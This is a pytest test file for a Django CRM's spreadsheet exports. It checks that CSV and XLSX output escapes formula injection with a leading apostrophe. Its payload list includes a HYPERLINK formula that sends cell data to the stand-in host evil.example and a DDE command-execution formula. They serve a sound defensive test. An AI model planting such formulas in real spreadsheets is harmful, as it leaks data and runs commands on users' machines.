"""Formula injection: text a spreadsheet would run comes out with a leading apostrophe, in
both formats, headers included; numbers and dates stay numbers and dates."""

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from winroom.attributes.models import AttributeDefinition
from winroom.exports.spreadsheet import neutralise, plain, spreadsheet_safe
from winroom.imports.reading import parse_text
from winroom.testing.factories import AccountFactory, ContactFactory

from .conftest import csv_rows, xlsx_rows

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("上海申通", "上海申通"),
        ("a=1", "a=1"),
        (None, ""),
        (-5, "-5"),
        (Decimal("-12.50"), "-12.50"),
        (date(2026, 3, 1), "2026-03-01"),
        (True, "yes"),
    ],
)
def test_other_values_are_left_alone(value, expected):
    with translation.override("en"):
        assert spreadsheet_safe(value) == expected


def test_aware_datetimes_become_local_wall_time():
    moment = datetime(2026, 3, 1, 1, 30, tzinfo=UTC)
    with timezone.override("Asia/Shanghai"):
        assert plain(moment) == datetime(2026, 3, 1, 9, 30)
        assert spreadsheet_safe(moment) == "2026-03-01 09:30"


@pytest.mark.parametrize("payload", PAYLOADS[:4] + PAYLOADS[6:])
def test_the_importer_drops_the_apostrophe_again(payload):
    assert parse_text(neutralise(payload)) == payload
    assert parse_text("'plain") == "'plain"  # an apostrophe before ordinary text is data


def _all_text(rows):
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell]


@pytest.mark.django_db
def test_payloads_in_names_notes_and_labels_come_out_neutralised(company, client):
    AttributeDefinition.objects.create(target="account", code="evil", label="=1+1", type="text")
    owner = company.owner
    for n, payload in enumerate(PAYLOADS):
        account = AccountFactory(
            owner=owner,
            name=f"{payload}{n}",  # (names are whitespace-normalised: the tab goes)
            region=payload,
            description=payload,
            custom={"evil": payload},
        )
        ContactFactory(account=account, name=f"联系人{n}", notes=payload, title=payload)
    client.force_login(owner)
    for url_name in ("accounts:list", "contacts:list", "accounts:portfolio"):
        csv_text = _all_text(csv_rows(client.get(reverse(url_name), {"format": "csv"})))
        xlsx_text = _all_text(xlsx_rows(client.get(reverse(url_name), {"format": "xlsx"})))
        for payload in PAYLOADS:
            assert any(cell.startswith("'" + payload) for cell in csv_text), (url_name, payload)
            # XML reads a carriage return back as a line feed; the apostrophe still leads
            xlsx_payload = "'" + payload.replace("\r", "\n")
            assert any(cell.startswith(xlsx_payload) for cell in xlsx_text), (url_name, payload)
        for cell in csv_text + xlsx_text:
            assert not cell.startswith(FORMULA_STARTS), (url_name, cell)
    header = xlsx_rows(client.get(reverse("accounts:list"), {"format": "xlsx"}))[0]
    assert "'=1+1" in header


@pytest.mark.django_db
def test_xlsx_holds_no_formula_cell(company, client):
    import io

    import openpyxl

    AccountFactory(owner=company.owner, name='=HYPERLINK("http://x")', region="@北京")
    client.force_login(company.owner)
    data = client.get(reverse("accounts:list"), {"format": "xlsx"}).getvalue()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
